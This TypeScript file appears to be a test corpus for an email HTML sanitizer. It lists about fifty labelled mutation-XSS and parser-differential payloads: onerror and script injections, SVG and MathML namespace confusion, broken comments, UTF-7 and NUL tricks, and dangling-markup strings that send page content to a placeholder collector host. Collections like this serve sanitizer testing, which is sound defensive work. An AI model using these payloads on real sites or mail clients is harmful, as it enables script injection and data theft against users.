import { COLLECTOR, RUN, mails } from './model.ts';

const img = `<img src=x onerror=${RUN}>`;

/** What means one thing to one parser and another thing to the next. */
export const mutation = mails([
  ['mx-noscript', 'text without scripts, tags with them', `<noscript><p title="</noscript>${img}"></noscript>`],
  ['mx-noscript-style', 'a comment across noscript', `<noscript><style></noscript>${img}</style>`],
  ['mx-title', 'a title in an attribute', `<title><p title="</title>${img}"></title>`],
  ['mx-textarea', 'a text area in an attribute', `<textarea><p title="</textarea>${img}"></textarea>`],
  [
    'mx-style-svg',
    'a stylesheet that is text in HTML, tags in SVG',
    `<svg><style>${img}</style></svg><svg></p><style><a id="</style>${img}">`,
  ],
  [
    'mx-math-table',
    'MathML, a table and a glyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  ],
  ['mx-math-style', 'a style of MathML', `<math><mi><mglyph><style><a title="</style>${img}">x</a>`],
  [
    'mx-form-nesting',
    'forms that nest when read again',
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  ],
  [
    'mx-svg-desc',
    'a description that is HTML',
    `<svg><desc><svg><style><p title="</style>${img}"></style></svg></desc></svg>`,
  ],
  [
    'mx-select',
    'what select leaves out',
    `<select><style></select>${img}</style><select><option><template></select>${img}`,
  ],
  ['mx-table', 'what a table pushes out', `<table><style><a title="</style>${img}"></style><tr>${img}<td>x</table>`],
  ['mx-p-table', 'a paragraph in a table in quirks', `<p><table><p>${img}</table>`],
  ['mx-template', 'a template within itself', `<template><template></template>${img}</template>`],
  ['mx-comment-bang', 'a comment that ends early', `<!--!>${img}--><!--> ${img} --><!---> ${img} -->`],
  ['mx-comment-dash', 'a comment that ends with --!>', `<!-- --!>${img}--><!-- <!-- --> ${img}`],
  ['mx-comment-open', 'a comment that does not end', `<p>x</p><!-- ${img}`],
  [
    'mx-conditional',
    'conditional comments',
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><![if !mso]>${img}<![endif]>`,
  ],
  ['mx-cdata', 'CDATA in HTML, in SVG', `<svg><![CDATA[><image xlink:href="]]>${img}//"></svg><![CDATA[ ${img} ]]>`],
  [
    'mx-processing',
    'instructions',
    `<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?><?php echo 1 ?>${img}<?x >${img}`,
  ],
  [
    'mx-doctype',
    'a doctype with entities',
    `<!DOCTYPE html [<!ENTITY x SYSTEM "${COLLECTOR}/entity"><!ENTITY y "${'&z;'.repeat(9)}">]><p>&x;&y;</p>`,
  ],
  [
    'mx-doctype-public',
    'a doctype from outside',
    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${COLLECTOR}/dtd"><p>x</p>`,
  ],
  [
    'mx-doctype-quote',
    'a doctype with signs of HTML',
    `<!DOCTYPE html PUBLIC '"><script>${RUN}</script>' '--><script>${RUN}</script>'><p>x</p>`,
  ],
  [
    'mx-backtick',
    'backticks as quotes',
    `<p title="\`\`onmouseover=${RUN}">x</p><img alt="\`><script>${RUN}</script>">`,
  ],
  [
    'mx-attribute-names',
    'names that can’t be made by hand',
    `<p "="" <b ='x' @click=${RUN} :href=x [y]=z {a}=b \u0000q=1 é=2>x</p>`,
  ],
  ['mx-attribute-open', 'an attribute that does not end', `<p>x</p><a title="${img}`],
  ['mx-attribute-open-single', 'the other quote', `<p>x</p><a href='${COLLECTOR}/`],
  ['mx-tag-open', 'a tag that does not end', `<p>x</p><img src="data:," onerror=${RUN} `],
  ['mx-dangling', 'an address that takes what follows', `<img src='${COLLECTOR}/dangling?<p>secret</p>`],
  [
    'mx-dangling-style',
    'a style that takes what follows',
    `<style>p{background:url("${COLLECTOR}/dangling?<p>secret</p>`,
  ],
  ['mx-title-open', 'a title that does not end', `<html><head><title>x<body>${img}`],
  ['mx-textarea-open', 'a text area that does not end', `<textarea>${img}`],
  ['mx-style-open', 'a stylesheet that does not end', `<style>p{} ${img}`],
  [
    'mx-stray-ends',
    'ends without beginnings',
    `</p></br></html></body></head></style></script></iframe></svg></math>${img}`,
  ],
  [
    'mx-heads',
    'several heads and bodies',
    `<body a=1><head b=2><html c=3 onclick=${RUN}><body onload=${RUN} a=2></html><body onfocus=${RUN}>${img}`,
  ],
  [
    'mx-entities',
    'references that change twice',
    `<p title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">&lt;script&gt;${RUN}&lt;/script&gt;&amp;lt;script&amp;gt;</p>`,
  ],
  [
    'mx-entities-odd',
    'references that are not',
    '<p title="&notit;&#0;&#xD800;&#x110000;&#128;&nosuch;&lt">&#x202E;&#0;&#99999999999;</p>',
  ],
  [
    'mx-nul',
    'NUL everywhere',
    `<p\0 ti\0tle="a\0b">x\0y</p\0><!--\0--><style>\0p{}</style><im\0g src=x onerror=${RUN}>`,
  ],
  ['mx-surrogates', 'halves of characters', '<p title="\uD800">\uDC00x\uD83D</p>'],
  ['mx-bidi', 'text that turns round', '<p>\u202Etxet \u2066x\u2069\u200F</p><p dir=rtl><bdo dir=ltr>x</bdo></p>'],
  ['mx-zero-width', 'text that nobody sees', `<scr\u200Bipt>${RUN}</script><p>\u200B\u200D\uFEFF\u{E0041}</p>`],
  ['mx-fullwidth', 'signs that look alike', `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E\u2039img onerror=x\u203A`],
  ['mx-utf7', 'another encoding', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  ['mx-iso2022', 'escapes of an encoding', `\u001B$B<p title="\u001B(B" onclick=${RUN}>x</p>`],
  [
    'mx-namespace',
    'names of XML',
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script><svg:script>${RUN}</svg:script><html:img src=x onerror=${RUN}>`,
  ],
  [
    'mx-foreign-break',
    'HTML breaks out of SVG',
    `<svg><p><style><!--</style>${img}--></style></svg><svg><font color=x>${img}`,
  ],
  [
    'mx-adoption',
    'misnested formatting',
    `<b><p><i></b>${img}</i></p><a><div><a href="javascript:${RUN}">x</a></div></a>`,
  ],
  ['mx-nobr', 'elements opened anew', `<nobr><nobr><b><table><nobr>${img}</table><font color=red><p><font size=9>`],
  [
    'mx-proto',
    'names of the language',
    `<p __proto__=x constructor=y toString=z id=__proto__ class=constructor>x</p><__proto__><constructor onclick=${RUN}><hasOwnProperty>`,
  ],
  [
    'mx-mail-tags',
    'tags of the service',
    '<p>{unsubscribe}{{ constructor.constructor("self.ran=1")() }}${self.ran=1}<%= self.ran=1 %>#{self.ran=1}</p>',
  ],
  [
    'mx-is',
    'a line end in a name',
    `<img src=x\u2028onerror=${RUN}><img src=x\u00A0onerror=${RUN}><img src=x\u3000onerror=${RUN}>`,
  ],
  ['mx-plain', 'no markup at all', 'javascript:self.ran=1 <<<>>> && ]]> --> */ <!'],
]);
